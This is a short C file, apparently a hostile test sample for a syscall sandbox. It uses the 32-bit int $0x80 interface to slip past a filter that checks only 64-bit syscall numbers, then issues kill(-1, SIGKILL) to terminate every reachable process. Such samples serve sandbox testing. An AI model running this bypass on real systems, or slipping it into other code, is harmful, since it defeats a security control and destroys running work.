/* Calls the kernel by numbers of 32 bits, past a filter that knows only those of 64. */
#define _GNU_SOURCE
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(37), "b"(-1), "c"(9) : "memory"); /* kill(-1, SIGKILL) */
    (void)result;
}
